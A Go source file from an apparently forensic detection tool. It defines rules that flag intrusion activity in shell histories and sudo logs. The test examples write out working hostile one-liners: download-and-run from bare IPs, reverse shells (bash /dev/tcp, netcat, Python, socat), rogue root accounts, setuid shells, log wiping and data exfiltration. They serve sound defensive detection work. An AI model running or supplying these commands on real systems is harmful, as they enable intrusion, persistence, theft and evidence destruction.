package builtin

import (
	"strings"
	"time"

	"deadbox/rules"
	"deadbox/timeline"
)

// verdicts judges lines of shell for one rule, and remembers its verdicts:
// cron logs the same line thousands of times.
type verdicts struct {
	known map[string][]act
}

const maxVerdicts = 4096

func (v *verdicts) judge(line, cwd string) []act {
	key := cwd + "\x00" + line
	if acts, ok := v.known[key]; ok {
		return acts
	}
	acts := judge(line, cwd)
	if v.known == nil {
		v.known = map[string][]act{}
	}
	if len(v.known) < maxVerdicts {
		v.known[strings.Clone(key)] = acts
	}
	return acts
}

// commandLine gives the line of shell that a record holds, and whose it is.
// What cron ran belongs to the rule on cron.
func commandLine(r *timeline.Record) (line, account string) {
	switch r.Kind {
	case timeline.KindCommand:
		return r.Fields["command"], r.Fields["account"]
	case timeline.KindAuth, timeline.KindSyslog:
		if r.Fields["action"] == "sudo" {
			line = r.Fields["command"]
			// sudo logs the words without their quotes: what follows "sh -c" was one.
			if first, rest, ok := strings.Cut(line, " -c "); ok && shells[base(first)] {
				line = rest
			}
			return line, r.Fields["account"]
		}
	}
	return "", ""
}

// commandChecker looks for some deeds in lines of shell: one finding for each
// account and source.
type commandChecker struct {
	deeds  map[deed]bool
	groups rules.Groups
	first  map[*rules.Group]*firstLine
	judged verdicts
	cwd    map[string]string // account and source of a history: where its shell is
}

type firstLine struct {
	severity rules.Severity
	at       time.Time
	line     string
	why      string
	path     string
	number   int
	deed     deed
}

func newCommandChecker(deeds ...deed) func(*rules.Env) rules.Checker {
	return func(*rules.Env) rules.Checker {
		c := &commandChecker{deeds: map[deed]bool{}, first: map[*rules.Group]*firstLine{}, cwd: map[string]string{}}
		for _, d := range deeds {
			c.deeds[d] = true
		}
		return c
	}
}

func (c *commandChecker) Record(r *timeline.Record) {
	line, account := commandLine(r)
	if line == "" {
		return
	}
	source := account + "\x00" + r.Evidence.Path
	cwd := ""
	if r.Kind == timeline.KindCommand {
		cwd = c.cwd[source]
	} else {
		cwd = r.Fields["cwd"]
	}
	acts := c.judged.judge(line, cwd)
	if r.Kind == timeline.KindCommand {
		c.follow(source, cwd, line)
	}
	var a *act
	for i := range acts {
		// The gravest; of those as grave the one that says most.
		if b := &acts[i]; c.deeds[b.deed] && (a == nil || b.severity > a.severity || b.severity == a.severity && b.deed < a.deed) {
			a = b
		}
	}
	if a != nil {
		g := c.groups.Get(source)
		g.Account = account
		g.Raise(a.severity)
		t, note := when(r)
		g.Add(r.Evidence, t, note)
		g.AddPath(r.Evidence.Path)
		f := c.first[g]
		if f == nil || a.severity > f.severity || a.severity == f.severity && earlier(t, r.Evidence, f) {
			c.first[g] = &firstLine{a.severity, t, strings.Clone(line), a.why, r.Evidence.Path, r.Evidence.Line, a.deed}
		}
	}
}

func earlier(t time.Time, ev timeline.Evidence, f *firstLine) bool {
	if !t.Equal(f.at) {
		return !t.IsZero() && (f.at.IsZero() || t.Before(f.at))
	}
	if ev.Path != f.path {
		return ev.Path < f.path
	}
	return ev.Line < f.number
}

const maxShells = 1 << 14

// follow keeps where the shell of a history is, as far as its lines say.
func (c *commandChecker) follow(source, cwd, line string) {
	if !strings.HasPrefix(line, "cd") && !strings.Contains(line, "cd ") && !strings.Contains(line, "pushd") {
		return
	}
	for _, cmd := range parseShell(line) {
		if n := cmd.name(); n != "cd" && n != "pushd" {
			continue
		}
		next := ""
		if len(cmd.words) > 1 {
			next = strings.TrimRight((&judgement{cwd: cwd}).resolve(cmd.words[1]), "/")
			if next == "" || next[0] != '/' || strings.Contains(next, "..") {
				next = ""
			}
		}
		cwd = next
	}
	if len(c.cwd) < maxShells || c.cwd[source] != "" {
		c.cwd[source] = cwd
	}
}

func (c *commandChecker) Findings() []rules.Finding {
	return c.groups.Findings(func(g *rules.Group) string {
		f := c.first[g]
		if f.deed == addsKey && g.Severity() <= rules.Low {
			g.Title = "A key was added from the command line"
		}
		s := "In " + showPath(f.path)
		if g.Account != "" {
			s = show(g.Account) + ", in " + showPath(f.path)
		}
		s += ": " + f.why + ": " + show(f.line)
		if g.Count > 1 {
			s += " (" + plural(g.Count-1, "more line") + ")"
		}
		return s
	})
}

var commandKinds = []string{timeline.KindCommand, timeline.KindAuth, timeline.KindSyslog}

func sudoRan(account, command string) timeline.Record {
	return anAuth(1, "sudo", "program", "sudo", "account", account, "target", "root", "command", command, "cwd", "/home/"+account)
}

var commandDownloadExecute = &rules.Rule{
	ID:    "command-download-execute",
	Title: "A download or encoded text was run, or a program in a temporary directory",
	Doc: `Lines of shell histories and of sudo that hand a download or decoded text to an interpreter, that store a download and run it, or that run or
mark executable a file in a directory that anyone may write to. This is how an intruder brings tools.
Innocent: makers of software tell people to pipe their installer from an https address with a name into a shell (low); installers and sources unpacked below /tmp (low).
A bare IP address, a paste site, a hidden name or /dev/shm has no such excuse (high).`,
	Severity:   rules.Medium,
	Techniques: []string{"T1105", "T1059.004"},
	Kinds:      commandKinds,
	New:        newCommandChecker(downloadsAndRuns, decodesAndRuns, runsTemporary, marksTemporary),
	True: []rules.Example{
		one("piped from an address", rules.High, aCommand("root", "curl -s http://198.51.100.7/x.sh | bash")),
		one("stored and run", rules.High, aCommand("root", "cd /tmp; wget 198.51.100.7/bd -O bd && chmod +x bd && ./bd &")),
		one("decoded", rules.High, aCommand("alice", "echo aWQK | base64 -d | sh")),
		one("substituted", rules.High, aCommand("root", `bash -c "$(curl -fsSL http://203.0.113.4:8080/i)"`)),
		one("process substitution", rules.High, aCommand("root", "bash <(wget -qO- http://198.51.100.7/a)")),
		one("through sudo", rules.High, sudoRan("alice", "/bin/sh -c curl${IFS}http://198.51.100.7/a|sh")),
		one("hidden in a temporary directory", rules.High, aCommand("root", "/var/tmp/.x/run 2>&1 &")),
		{Name: "in the directory of an earlier line", Severity: rules.High, Records: []timeline.Record{aCommand("root", "cd /dev/shm"), aCommand("root", "./k")}},
		one("installer from its maker", rules.Low, aCommand("root", "curl -fsSL https://get.example.org | sh")),
	},
	False: []rules.Example{
		quiet("download to a file", aCommand("root", "wget https://example.org/a.tar.gz")),
		quiet("download read by a person", aCommand("alice", "curl -s https://example.org/status | jq .")),
		quiet("temporary files as data", aCommand("root", "tar czf /tmp/etc.tgz /etc"), aCommand("root", "find /tmp -type f -mtime +7 -delete"), aCommand("root", "rm -rf /tmp/build")),
		quiet("decoding to a file", aCommand("alice", "base64 -d secret.txt > out.bin")),
		quiet("editing", aCommand("root", "vi /tmp/notes.txt"), aCommand("alice", "less /var/tmp/x.sh")),
		quiet("comment", aCommand("root", "# curl http://198.51.100.7/x.sh | bash")),
	},
}

var commandReverseShell = &rules.Rule{
	ID:    "command-reverse-shell",
	Title: "A shell was tied to a network connection",
	Doc: `Lines of shell histories and of sudo that give a shell to a connection (netcat -e, /dev/tcp, named pipes, one-liners of Python, Perl, PHP, Ruby, socat),
that make a terminal for a shell which has none, or that start a known tunnel.
Innocent: trying whether a port answers with /dev/tcp (low); administrators' tunnels (medium).`,
	Severity:   rules.Critical,
	Techniques: []string{"T1059.004", "T1095"},
	Kinds:      commandKinds,
	New:        newCommandChecker(reverseShell, spawnsTerminal, tunnels),
	True: []rules.Example{
		one("bash", rules.Critical, aCommand("www-data", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")),
		one("netcat", rules.Critical, aCommand("root", "nc -e /bin/sh 198.51.100.7 4444")),
		one("named pipe", rules.Critical, aCommand("root", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 9 >/tmp/f")),
		one("python", rules.Critical, aCommand("root", `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.7",9));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh"])'`)),
		one("terminal", rules.High, aCommand("www-data", `python -c 'import pty; pty.spawn("/bin/bash")'`)),
		one("socat", rules.Critical, aCommand("root", "socat TCP:198.51.100.7:9 EXEC:/bin/bash,pty,stderr")),
		one("descriptor", rules.Critical, aCommand("root", "exec 5<>/dev/tcp/198.51.100.7/9; cat <&5 | while read l; do $l 2>&5 >&5; done")),
	},
	False: []rules.Example{
		quiet("netcat as a listener of data", aCommand("root", "nc -l -p 9000 > dump.sql"), aCommand("root", "nc -zv 192.0.2.3 22")),
		quiet("python server", aCommand("alice", "python3 -m http.server 8000")),
		quiet("ssh tunnel", aCommand("alice", "ssh -L 8080:localhost:80 example.org")),
		quiet("perl", aCommand("root", "perl -pi -e 's/a/b/' f.txt")),
	},
}

var commandPersistence = &rules.Rule{
	ID:    "command-persistence",
	Title: "A way back in was prepared from the command line",
	Doc: `Lines of shell histories and of sudo that make a second account with user id 0, write to the files of accounts, make shells setuid or give them
capabilities, load kernel modules from odd places, preload libraries, lock such files with chattr, or add keys.
Innocent: adding one's own key or a sudoers file (low); loading a module that one builds (medium).`,
	Severity:   rules.High,
	Techniques: []string{"T1136.001", "T1548.001", "T1098.004"},
	Kinds:      commandKinds,
	New:        newCommandChecker(addsRoot, addsKey, addsRights, loadsModule, preloads, locksFile),
	True: []rules.Example{
		one("second root", rules.Critical, aCommand("root", "useradd -o -u 0 -g 0 -M -s /bin/bash support")),
		one("line in passwd", rules.Critical, aCommand("root", `echo 'toor::0:0::/root:/bin/bash' >> /etc/passwd`)),
		one("setuid shell", rules.Critical, aCommand("root", "cp /bin/bash /tmp/.b; chmod 4755 /bin/bash")),
		one("setuid symbolically", rules.Critical, sudoRan("alice", "/bin/chmod u+s /usr/bin/find")),
		one("module", rules.High, aCommand("root", "cd /tmp/.k; insmod ./rk.ko")),
		one("preload", rules.Critical, aCommand("root", "echo /lib/libx.so > /etc/ld.so.preload")),
		one("capability", rules.Critical, aCommand("root", "setcap cap_setuid+ep /usr/bin/python3.11")),
		one("lock", rules.High, aCommand("root", "chattr +ia /var/tmp/.x/run")),
	},
	False: []rules.Example{
		quiet("ordinary account", aCommand("root", "useradd -m -s /bin/bash -u 1002 bob"), aCommand("root", "usermod -aG sudo bob")),
		quiet("ordinary modes", aCommand("root", "chmod 0755 /usr/local/bin/tool"), aCommand("root", "chmod 2775 /srv/share"), aCommand("root", "chmod -R g+s /srv/git")),
		quiet("hardening", aCommand("root", "chattr +i /etc/resolv.conf")),
		quiet("ports for a server", aCommand("root", "setcap cap_net_bind_service=+ep /usr/bin/node")),
		quiet("packaged module", aCommand("root", "modprobe br_netfilter"), aCommand("root", "insmod /lib/modules/6.1.0-18-amd64/extra/x.ko")),
	},
}

var commandEscalation = &rules.Rule{
	ID:    "command-escalation",
	Title: "Tools or exploits to become root, or to take passwords, were used",
	Doc: `Lines of shell histories and of sudo that run or build an exploit, run a script that lists ways to become root, search the disk for setuid programs, or
copy or crack password hashes.
Innocent: an auditor's find over setuid programs, a look into /etc/shadow (low).`,
	Severity:   rules.High,
	Techniques: []string{"T1068", "T1003.008"},
	Kinds:      commandKinds,
	New:        newCommandChecker(escalates, takesCredentials),
	True: []rules.Example{
		one("script", rules.High, aCommand("www-data", "./linpeas.sh -a > out")),
		one("compiled", rules.High, aCommand("alice", "gcc -o x exploit.c -lpthread")),
		one("run", rules.High, aCommand("alice", "./CVE-2021-4034")),
		one("search", rules.Low, aCommand("alice", "find / -perm -4000 -type f 2>/dev/null")),
		one("hashes", rules.High, aCommand("root", "cp /etc/shadow /var/www/html/s.txt")),
	},
	False: []rules.Example{
		quiet("find", aCommand("root", "find / -name core -delete")),
		quiet("compiling", aCommand("alice", "gcc -O2 -o hello hello.c")),
		quiet("editing shadow", aCommand("root", "vipw -s"), aCommand("root", "cp -a /etc/shadow- /etc/shadow")),
	},
}

var commandCoverTracks = &rules.Rule{
	ID:    "command-cover-tracks",
	Title: "Traces were removed from the command line",
	Doc: `Lines of shell histories and of sudo that switch off, empty or remove the history, remove, empty or edit logs, stop logging, or set the times of
system files.
Innocent: emptying one big log when the disk is full (low); a person who clears the history after typing a password (medium).`,
	Severity:   rules.High,
	Techniques: []string{"T1070.003", "T1685.006", "T1690", "T1070.006"},
	Kinds:      commandKinds,
	New:        newCommandChecker(hidesHistory, removesLogs, stampsTime, stopsLogging),
	True: []rules.Example{
		one("no history file", rules.High, aCommand("root", "unset HISTFILE")),
		one("history to nowhere", rules.High, aCommand("root", "ln -sf /dev/null ~/.bash_history")),
		one("export", rules.High, aCommand("root", "export HISTFILE=/dev/null HISTSIZE=0")),
		one("set", rules.High, aCommand("root", "set +o history")),
		one("cleared", rules.Medium, aCommand("root", "history -c")),
		one("logs removed", rules.High, aCommand("root", "rm -rf /var/log")),
		one("log emptied", rules.High, aCommand("root", "> /var/log/wtmp")),
		one("log edited", rules.High, aCommand("root", "sed -i '/198.51.100.7/d' /var/log/auth.log")),
		one("times set", rules.High, aCommand("root", "touch -r /bin/ls /bin/ps")),
		one("logging stopped", rules.Medium, aCommand("root", "systemctl stop rsyslog")),
		one("disk full", rules.Low, aCommand("root", "truncate -s 0 /var/log/mysql/slow.log")),
	},
	False: []rules.Example{
		quiet("setting up a bigger history", aCommand("alice", "export HISTSIZE=10000 HISTCONTROL=ignoredups")),
		quiet("old rotated logs", aCommand("root", "rm /var/log/apache2/access.log.14.gz")),
		quiet("reading", aCommand("root", "tail -f /var/log/auth.log"), aCommand("root", "grep sshd /var/log/auth.log > /root/ssh.txt"), aCommand("root", "history | grep apt")),
		quiet("restart", aCommand("root", "systemctl restart rsyslog"), aCommand("root", "pkill -HUP rsyslogd")),
		quiet("times of one's own file", aCommand("alice", "touch -d yesterday notes.txt")),
	},
}

var commandMining = &rules.Rule{
	ID:    "command-mining",
	Title: "A miner of cryptocurrency was started from the command line",
	Doc: `Lines of shell histories and of sudo that run a miner or name a mining pool.
Innocent: a server that its owner lets mine.`,
	Severity:   rules.High,
	Techniques: []string{"T1496.001"},
	Kinds:      commandKinds,
	New:        newCommandChecker(mines),
	True: []rules.Example{
		one("by pool", rules.High, aCommand("root", "./kthreadd -o stratum+tcp://pool.example.org:3333 -u x")),
		one("by name", rules.High, aCommand("root", "nohup /opt/m/xmrig -c c.json &")),
	},
	False: []rules.Example{quiet("pool of connections", aCommand("root", "pg_pool --max 10"))},
}

var commandExfiltration = &rules.Rule{
	ID:    "command-exfiltration",
	Title: "Files were packed or sent away from the command line",
	Doc: `Lines of shell histories and of sudo that send a file to a bare IP address or a site where anyone may leave files (curl -T, wget --post-file, netcat, scp), or that
pack files into a hidden archive or one in memory.
Innocent: copies between one's own servers by their addresses (low for scp and rsync).`,
	Severity:   rules.Medium,
	Techniques: []string{"T1560.001", "T1048"},
	Kinds:      commandKinds,
	New:        newCommandChecker(sendsAway, packs),
	True: []rules.Example{
		one("upload", rules.High, aCommand("alice", "curl -T /tmp/w.tgz http://198.51.100.23/up/")),
		one("form", rules.High, aCommand("root", "curl -F file=@/root/db.sql.gz https://transfer.sh")),
		one("netcat", rules.High, aCommand("root", "nc 198.51.100.23 4444 < /root/db.sql.gz")),
		one("through a pipe", rules.High, aCommand("root", "tar czf - /var/www | nc 198.51.100.23 4444")),
		one("hidden archive", rules.Medium, aCommand("alice", "tar czf /tmp/.x/w.tgz /var/www/html")),
		one("copy", rules.Low, aCommand("alice", "scp w.tgz bob@198.51.100.23:")),
	},
	False: []rules.Example{
		quiet("backup", aCommand("root", "tar czf /root/etc.tgz /etc"), aCommand("root", "scp /root/etc.tgz backup.example.org:"), aCommand("root", "rsync -a /srv/ nas:/srv/")),
		quiet("posting to an application", aCommand("alice", "curl -X POST -d @body.json https://api.example.org/v1/x"), aCommand("alice", "curl -d 'a=b' http://192.0.2.5:9200/_search")),
		quiet("archive of a build", aCommand("alice", "tar czf /tmp/build.tgz build")),
	},
}
